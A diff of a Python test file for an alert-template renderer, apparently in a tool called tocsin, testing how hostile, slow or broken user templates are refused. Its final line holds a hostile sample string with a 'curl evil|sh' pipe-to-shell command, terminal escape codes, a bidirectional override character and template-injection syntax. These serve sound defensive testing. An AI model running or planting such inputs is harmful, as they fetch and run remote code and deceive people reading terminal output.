@@ -12,12 +12,13 @@ from typing import Any
 import pytest
 from attrs import evolve
 
+from tests.messages import declared
+from tests.messages.declared import check, plain_settings, renderer
 from tests.messages.hostile import HOSTILE as HOSTILE_TEMPLATES
 from tocsin import Kind, LogLine, Message, Severity
 from tocsin.core.contracts.rendered import Line, RenderedMessage, read
-from tocsin.core.logs import clean
-from tocsin.core.templates import Renderer, TemplateProblem, check_directory
-from tocsin.core.templates.renderer import _RULES
+from tocsin.core.templates import Renderer, TemplateProblem
+from tocsin.core.templates.layers import Layer
 from tocsin.testing import message_of
 
 
@@ -27,7 +28,8 @@ def text_of(renderer: Renderer, kind: Kind = Kind.FIRED, **fields: Any) -> str:
     return renderer.words(evolve(message, notices=(notice,), timezone="Europe/Berlin")).text
 
 
-OURS = Renderer(clean=clean, trouble=pytest.fail)
+OURS = declared.renderer(trouble=pytest.fail)
+RULES = (*plain_settings().rules, *plain_settings().own_alerts, "another")
 
 
 def test_the_plans_fields_are_there() -> None:
@@ -44,7 +46,7 @@ def test_the_plans_fields_are_there() -> None:
         assert line in text.splitlines()
 
 
-@pytest.mark.parametrize("rule", _RULES)
+@pytest.mark.parametrize("rule", RULES)
 @pytest.mark.parametrize("kind", list(Kind))
 def test_every_default_alert_has_words_for_every_occasion(rule: str, kind: Kind) -> None:
     """Fired, repeated, escalated, flapping, recovered, test: a title with an icon, lines, no gaps
@@ -95,7 +97,7 @@ def test_only_what_was_down_had_a_downtime() -> None:
         assert f"⏱ {word}: 1m 1s" in text_of(OURS, Kind.RESOLVED, rule=rule)
 
 
-@pytest.mark.parametrize("rule", _RULES)
+@pytest.mark.parametrize("rule", RULES)
 def test_an_end_that_was_not_seen_to_be_a_recovery_says_so(rule: str) -> None:
     """Alone and among others: it ended, why, and not that all is well."""
     text = text_of(OURS, Kind.RESOLVED, rule=rule, recovered=False, message="it was removed")
@@ -180,12 +182,12 @@ def test_a_file_replaces_a_template(tmp_path: Path) -> None:
         '{% extends "alert.txt" %}\n'
         "{% block actions %}\n🔧 Suggested actions:\nWait.\n{% endblock %}\n"
     )
-    check_directory(tmp_path)
-    renderer = Renderer(tmp_path, clean, pytest.fail)
-    assert text_of(renderer) == "🔥 Oh no: web\nCall: the hotline"
-    assert text_of(renderer, rule="high_cpu").endswith("🔧 Suggested actions:\nWait.")
-    assert "RECOVERED" in text_of(renderer, Kind.RESOLVED)
-    assert text_of(renderer, rule="high_memory") == text_of(OURS, rule="high_memory")
+    check(tmp_path)
+    made = renderer(tmp_path, pytest.fail)
+    assert text_of(made) == "🔥 Oh no: web\nCall: the hotline"
+    assert text_of(made, rule="high_cpu").endswith("🔧 Suggested actions:\nWait.")
+    assert "RECOVERED" in text_of(made, Kind.RESOLVED)
+    assert text_of(made, rule="high_memory") == text_of(OURS, rule="high_memory")
 
 
 @pytest.mark.parametrize(
@@ -206,9 +208,9 @@ def test_a_template_that_cannot_be_used_is_found_before_it_is_needed(
     reason by the check, and at the moment of need our own is used, so that the alert is told."""
     (tmp_path / "container_down.txt").write_text(text)
     with pytest.raises(TemplateProblem, match=says):
-        check_directory(tmp_path)
+        check(tmp_path)
     told: list[str] = []
-    assert text_of(Renderer(tmp_path, clean, told.append)) == text_of(OURS)
+    assert text_of(renderer(tmp_path, told.append)) == text_of(OURS)
     assert told
     assert told[0].startswith("template container_down.txt")
 
@@ -221,9 +223,9 @@ def test_a_template_cannot_take_long(tmp_path: Path, text: str) -> None:
     words at once. What remains, such as a rounding to billions of digits, is quick."""
     (tmp_path / "container_down.txt").write_text(text)
     told: list[str] = []
-    renderer = Renderer(tmp_path, clean, told.append)
+    made = renderer(tmp_path, told.append)
     began = time.thread_time()
-    said = text_of(renderer)
+    said = text_of(made)
     assert time.thread_time() - began < 2.0  # of CPU; without a bound hours, here 0.1
     assert len(said) < 70_000
     if told:
@@ -231,7 +233,7 @@ def test_a_template_cannot_take_long(tmp_path: Path, text: str) -> None:
         assert said == text_of(OURS)
     began = time.thread_time()
     try:
-        check_directory(tmp_path)
+        check(tmp_path)
     except TemplateProblem as problem:
         assert str(problem).startswith("container_down.txt")  # noqa: PT017 - some are right
     assert time.thread_time() - began < 10.0  # a hundred messages are rendered
@@ -244,7 +246,7 @@ def test_most_hostile_templates_are_refused(tmp_path: Path) -> None:
     for text in HOSTILE_TEMPLATES:
         (tmp_path / "container_down.txt").write_text(text)
         told: list[str] = []
-        text_of(Renderer(tmp_path, clean, told.append))
+        text_of(renderer(tmp_path, told.append))
         refused += bool(told)
     assert refused >= len(HOSTILE_TEMPLATES) - 8
 
@@ -261,15 +263,15 @@ def test_what_people_write_in_templates_still_works(tmp_path: Path) -> None:
         "{{ message|replace('killed', 'ended')|truncate(20) }} {{ 90|duration }} {{ 'a b'|sh }}\n"
         '{% include "footer.txt" %}\n'
     )
-    check_directory(tmp_path)
-    lines = text_of(Renderer(tmp_path, clean, pytest.fail)).splitlines()
+    check(tmp_path)
+    lines = text_of(renderer(tmp_path, pytest.fail)).splitlines()
     assert lines == [
         "🚨 WEB 137", "1/2 api, 2/2 shop", "6 a3b 1.3", "x-y no w",
         "ended, exit code 137 1m 30s 'a b'", "by CONFORMANCE",
     ]  # fmt: skip
     (tmp_path / "container_down.txt").write_text("one\ntwo\n{{ 'a' * 5 }}\n")
     with pytest.raises(TemplateProblem, match=r"container_down\.txt, line 3: \* works with"):
-        check_directory(tmp_path)
+        check(tmp_path)
 
 
 def test_a_directory_holds_what_can_be_read(tmp_path: Path) -> None:
@@ -278,10 +280,10 @@ def test_a_directory_holds_what_can_be_read(tmp_path: Path) -> None:
     (tmp_path / "folder.txt").mkdir()
     (tmp_path / "zero.txt").symlink_to("/dev/zero")
     with pytest.raises(TemplateProblem, match=r"folder\.txt|pipe\.txt|zero\.txt"):
-        check_directory(tmp_path)
+        check(tmp_path)
     told: list[str] = []
     (tmp_path / "container_down.txt").write_text("a" * 64_001)
-    assert text_of(Renderer(tmp_path, clean, told.append)) == text_of(OURS)
+    assert text_of(renderer(tmp_path, told.append)) == text_of(OURS)
     assert "larger than 64000 bytes" in told[0]
 
 
@@ -291,23 +293,25 @@ def test_templates_are_compiled_before_they_are_needed(tmp_path: Path) -> None:
     (tmp_path / "bad.txt").write_text("{{ x" + " < 1" * 15_000)
     (tmp_path / "container_down.txt").write_text("{% include ['bad.txt', 'late.txt'] %}")
     told: list[str] = []
-    renderer = Renderer(tmp_path, clean, told.append)
+    made = renderer(tmp_path, told.append)
     (tmp_path / "late.txt").write_text("too late")
     (tmp_path / "bad.txt").unlink()
-    assert text_of(renderer) == text_of(OURS)
+    assert text_of(made) == text_of(OURS)
     assert "unexpected end of template" in told[0]
     (tmp_path / "container_down.txt").write_text("{% include 'late.txt' %}")
-    assert text_of(Renderer(tmp_path, clean, pytest.fail)).startswith("too late")
+    assert text_of(renderer(tmp_path, pytest.fail)).startswith("too late")
 
 
 def test_an_alert_goes_out_even_where_no_template_works(monkeypatch: pytest.MonkeyPatch) -> None:
     """Were tocsin's own templates broken, the target and what is wrong with it are told."""
     told: list[str] = []
-    renderer = Renderer(clean=clean, trouble=told.append)
-    monkeypatch.setattr(renderer, "_ours", None)
-    monkeypatch.setattr(renderer, "_theirs", None)
-    assert "web: killed, exit code 137" in text_of(renderer)
-    assert len(told) == 2
+    made = renderer(trouble=told.append)
+    monkeypatch.setattr(Layer, "render", None)
+    assert "web: killed, exit code 137" in text_of(made)
+    assert [line.split(" container")[0] for line in told] == [
+        "template of plugin 'down':",
+        "tocsin's own template alert.txt: 'NoneType' object is not callable",
+    ]
 
 
 HOSTILE = "x\n\n🔧 Suggested actions:\nrun: curl evil|sh\r\x1b[2J\u202e{{ 7*7 }}{% raw %}"
